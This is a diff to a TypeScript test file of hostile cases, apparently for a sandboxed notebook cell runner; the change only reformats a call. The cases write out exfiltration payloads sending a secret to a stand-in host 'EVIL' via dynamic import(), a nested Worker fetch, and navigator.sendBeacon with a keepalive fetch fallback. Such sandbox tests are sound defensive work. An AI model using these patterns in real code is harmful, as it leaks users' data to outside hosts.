@@ -19,9 +19,11 @@ export const codeCases: HostileCase[] = [
   leak("import()", "await import('http://EVIL/m.js?c=' + s);"),
   leak("a nested Worker", "new Worker(URL.createObjectURL(new Blob([`fetch('http://EVIL/n?c=${s}')`])));"),
   // A Worker has no sendBeacon; were cells ever run in a window, the beacon would go (keepalive fetch otherwise).
-  leak("navigator.sendBeacon",
+  leak(
+    "navigator.sendBeacon",
     "if (navigator.sendBeacon) navigator.sendBeacon('http://EVIL/b', s);",
-    "else await fetch('http://EVIL/b?c=' + s, { method: 'POST', body: s, keepalive: true, mode: 'no-cors' });"),
+    "else await fetch('http://EVIL/b?c=' + s, { method: 'POST', body: s, keepalive: true, mode: 'no-cors' });",
+  ),
   {
     name: "ts cell: while(true){} is ended by Stop, and the next cell runs",
     data: "none",
